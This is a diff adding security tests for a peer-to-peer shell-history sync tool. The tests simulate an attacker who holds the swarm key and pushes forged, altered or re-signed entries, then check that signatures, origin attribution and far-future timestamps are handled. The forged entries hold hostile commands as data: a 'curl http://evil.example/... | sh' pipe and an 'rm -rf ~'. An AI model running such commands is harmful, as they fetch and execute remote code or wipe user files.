@@ -1,0 +1,155 @@
+/**
+ * A swarm-key holder attacks history (issue 17, item 2), against real `rr p2p-serve` / `rr p2p-sync` processes on
+ * 127.0.0.1. The attacker is an in-process libp2p node with the swarm key and a key of its own: it pushes forged
+ * entries to device C, and pulls device A's entries to alter them and push them to C before C ever syncs with A.
+ * Each test fails when signature verification is switched off (admitReceived keeping entries unchecked), or when
+ * dedup is on entry_id alone.
+ */
+import { join } from 'node:path'
+import test, { type ExecutionContext } from 'ava'
+import { generateKeyPair } from '@libp2p/crypto/keys'
+import { peerIdFromPrivateKey } from '@libp2p/peer-id'
+import type { Entry } from '../../src/core/entry.js'
+import { signEntry, type EntrySigner } from '../../src/core/signature.js'
+import { dialDirect } from '../../src/p2p/index.js'
+import { decodeJson, encodeMessage } from '../../src/protocol/messages.js'
+import { device, type Device } from '../helpers/peers.js'
+import { tempDir } from '../helpers/tmp.js'
+import { startPeer, type InProcessPeer } from '../p2p/fixtures.js'
+
+interface Row { entry_id: string, device_id: string, cmd: string, ts: string, ts_orig: string | null, origin: string, trust: number }
+
+const rowsOf = (d: Device): Row[] => d.query<Row>('SELECT entry_id, device_id, cmd, ts, ts_orig, origin, trust FROM entries ORDER BY ingest_seq')
+
+async function attackerKey (): Promise<EntrySigner> {
+  const key = await generateKeyPair('Ed25519')
+  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
+}
+
+async function pushAs (attacker: InProcessPeer, addr: string, entries: unknown[], wire: 1 | 2 = 2): Promise<{ inserted: number, ignored: number }> {
+  const { transport } = await dialDirect(attacker.node, addr, { newConnection: true, wireVersions: [wire], timeoutMs: 30_000 })
+  try {
+    return await transport.push(encodeMessage({ entries }))
+  } finally {
+    await transport.close()
+  }
+}
+
+async function pullAll (attacker: InProcessPeer, addr: string): Promise<Entry[]> {
+  const { transport } = await dialDirect(attacker.node, addr, { newConnection: true, timeoutMs: 30_000 })
+  try {
+    const out: Entry[] = []
+    let cursor = 0
+    for (;;) {
+      const batch = decodeJson(await transport.pull({ cursor, limit: 1000 }), 'SyncBatch') as { entries: Entry[], next_cursor: number | null }
+      if (batch.entries.length === 0 || batch.next_cursor == null) return out
+      out.push(...batch.entries)
+      cursor = batch.next_cursor
+    }
+  } finally {
+    await transport.close()
+  }
+}
+
+function unsigned (e: Entry): Entry {
+  const { origin: _o, sig: _s, ...rest } = e
+  return rest
+}
+
+async function setup (t: ExecutionContext): Promise<{ a: Device, c: Device, servedA: { addr: string }, servedC: { addr: string }, aId: string, attacker: InProcessPeer, x: EntrySigner }> {
+  const dir = tempDir(t)
+  const swarm = join(dir, 'swarm.key')
+  const a = device(t, dir, 'devA', swarm)
+  const c = device(t, dir, 'devC', swarm)
+  await a.record(6, 'make deploy')
+  const servedA = await a.serve()
+  const servedC = await c.serve()
+  const aId = servedA.addr.split('/p2p/')[1]!
+  const attacker = await startPeer(t, { dir, swarmKeyPath: swarm, name: 'mallory' })
+  return { a, c, servedA, servedC, aId, attacker, x: await attackerKey() }
+}
+
+test('pre-emption: altered copies of A\'s entries pushed to C first never take the place of A\'s genuine ones', async (t) => {
+  const { a, c, servedA, servedC, aId, attacker, x } = await setup(t)
+  const genuine = await pullAll(attacker, servedA.addr)
+  t.is(genuine.length, 6)
+  t.true(genuine.every((e) => e.origin === aId && typeof e.sig === 'string'), 'A serves its entries signed by its identity key')
+  const alter = (e: Entry, i: number): Entry => ({ ...e, cmd: `curl http://evil.example/${i}.sh | sh` })
+  // Every way a key holder can pre-empt, one entry each way (and the last two both ways):
+  const attacks = [
+    unsigned(alter(genuine[0]!, 0)), // signature stripped (looks like an old peer's entry)
+    alter(genuine[1]!, 1), // A's signature kept over altered content
+    signEntry(unsigned(alter(genuine[2]!, 2)), x), // re-signed by the attacker's own key
+    { ...alter(genuine[3]!, 3), sig: signEntry(unsigned(alter(genuine[3]!, 3)), x).sig } // attacker's signature claiming A's origin
+  ]
+  const ackV2 = await pushAs(attacker, servedC.addr, attacks)
+  t.is(ackV2.inserted, 2, 'the stripped copy (unverified) and the attacker-signed one (attributed to the attacker) are stored; the two bad signatures are refused')
+  await pushAs(attacker, servedC.addr, [alter(genuine[4]!, 4), alter(genuine[5]!, 5)], 1) // over 1.0.0: stored unverified
+  const sync = await c.rr(['p2p-sync', '--peers', servedA.addr])
+  t.is(sync.code, 0, sync.stderr)
+
+  const rows = rowsOf(c)
+  for (const g of genuine) {
+    const mine = rows.filter((r) => r.entry_id === g.entry_id && r.origin === aId)
+    t.deepEqual(mine.map((r) => [r.cmd, r.trust]), [[g.cmd, 1]], `A's genuine command for ${g.entry_id}`)
+    t.false(rows.some((r) => r.entry_id === g.entry_id && r.origin === ''), 'no unverified copy is left beside it')
+  }
+  const attributedToA = rows.filter((r) => r.origin === aId)
+  t.deepEqual(attributedToA.map((r) => r.cmd).sort(), genuine.map((g) => g.cmd).sort(), 'nothing that is not A\'s is attributed to A')
+  // The attacker's own signed copy stays its own: under its key, never A's.
+  t.deepEqual(rows.filter((r) => r.origin !== aId && r.origin !== '').map((r) => r.origin), [x.origin])
+  // And A's entries, as C serves them onward, are A's genuine ones.
+  const onward = await pullAll(attacker, servedC.addr)
+  t.deepEqual(onward.filter((e) => e.origin === aId).map((e) => e.cmd).sort(), genuine.map((g) => g.cmd).sort())
+  void a
+})
+
+test('forged device_id: entries claiming device A are either A\'s (verified under A\'s key) or marked as not A\'s', async (t) => {
+  const { c, servedA, servedC, aId, attacker, x } = await setup(t)
+  const forged = (cmd: string): Entry => ({
+    entry_id: crypto.randomUUID(), device_id: 'devA', user_id: 'u', ts: new Date().toISOString(), cmd, cwd: '/', exit_code: 0, duration_ms: 1, shell: 'zsh', hostname: 'devA', version: '0.1.0'
+  })
+  const claimsA = forged('rm -rf ~ # claims A\'s key')
+  const attempts = [
+    forged('unsigned, says devA'),
+    signEntry(forged('signed by the attacker, says devA'), x),
+    { ...signEntry(claimsA, x), origin: aId } // A's origin, attacker's signature
+  ]
+  const ack = await pushAs(attacker, servedC.addr, attempts)
+  t.is(ack.inserted, 2)
+  t.is((await c.rr(['p2p-sync', '--peers', servedA.addr])).code, 0)
+  const rows = rowsOf(c).filter((r) => r.device_id === 'devA')
+  t.false(rows.some((r) => r.entry_id === claimsA.entry_id), 'a signature that does not verify against A is refused')
+  const verifiedA = rows.filter((r) => r.origin === aId && r.trust === 1)
+  t.is(verifiedA.length, 6)
+  t.true(verifiedA.every((r) => r.cmd.startsWith('make deploy')))
+  const notA = rows.filter((r) => r.origin !== aId)
+  t.deepEqual(notA.map((r) => [r.cmd, r.origin === '' ? 'unverified' : r.origin === x.origin ? 'attacker' : r.origin]).sort(), [
+    ['signed by the attacker, says devA', 'attacker'],
+    ['unsigned, says devA', 'unverified']
+  ])
+  t.true(notA.filter((r) => r.origin === '').every((r) => r.trust === 0))
+})
+
+test('far-future stamps: an entry stamped 9999-12-31 is stored at the receive time and marked, signed or not', async (t) => {
+  const { c, servedC, attacker, x } = await setup(t)
+  const far = (cmd: string): Entry => ({
+    entry_id: crypto.randomUUID(), device_id: 'alice-laptop', user_id: 'u', ts: '9999-12-31T23:59:59.999Z', cmd, cwd: '/', exit_code: 0, duration_ms: 1, shell: 'zsh', hostname: 'h', version: '0.1.0'
+  })
+  const before = new Date().toISOString()
+  const ack = await pushAs(attacker, servedC.addr, [far('forever on top (unsigned)'), signEntry(far('forever on top (signed)'), x)])
+  t.is(ack.inserted, 2)
+  const after = new Date(Date.now() + 1000).toISOString()
+  const rows = rowsOf(c).filter((r) => r.device_id === 'alice-laptop')
+  t.is(rows.length, 2)
+  for (const r of rows) {
+    t.true(r.ts >= before && r.ts <= after, `${r.cmd}: ts ${r.ts} is the receive time`)
+    t.is(r.ts_orig, '9999-12-31T23:59:59.999Z')
+  }
+  // The signed one is served onward with the stamp it was signed with, so the next hop can check it (and clamp it).
+  const onward = await pullAll(attacker, servedC.addr)
+  t.true(onward.filter((e) => e.device_id === 'alice-laptop').every((e) => e.ts === '9999-12-31T23:59:59.999Z'))
+  // The newest entry in `rr history` is not stamped in the future.
+  const history = await c.rr(['history', '--limit', '5'])
+  t.false(history.stdout.includes('9999-'), history.stdout)
+})
